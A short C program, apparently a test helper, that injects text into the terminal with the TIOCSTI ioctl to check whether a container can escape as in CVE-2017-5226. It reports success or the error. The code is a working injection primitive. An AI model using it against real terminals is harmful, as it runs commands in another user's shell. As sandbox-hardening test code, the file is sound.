/* pack_tiocsti TEXT: push TEXT and a newline into the terminal on standard
 * input with TIOCSTI, as an attacker in a container would to have the
 * caller's shell run it after the container exits (CVE-2017-5226), and say
 * how it went: "tiocsti: ok" (exit 0) or "tiocsti: ERRNO (text)" (exit 1).
 * Static, so it runs in any container root. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int main(int argc, char** argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: pack_tiocsti TEXT\n");
        return 2;
    }
    char nl = '\n';
    for (const char* p = argv[1]; *p; ++p) {
        if (ioctl(0, TIOCSTI, p) != 0) {
            int e = errno;
            printf("tiocsti: %s (%s)\n", strerrorname_np(e), strerror(e));
            return 1;
        }
    }
    if (ioctl(0, TIOCSTI, &nl) != 0) {
        int e = errno;
        printf("tiocsti: %s (%s)\n", strerrorname_np(e), strerror(e));
        return 1;
    }
    printf("tiocsti: ok\n");
    return 0;
}
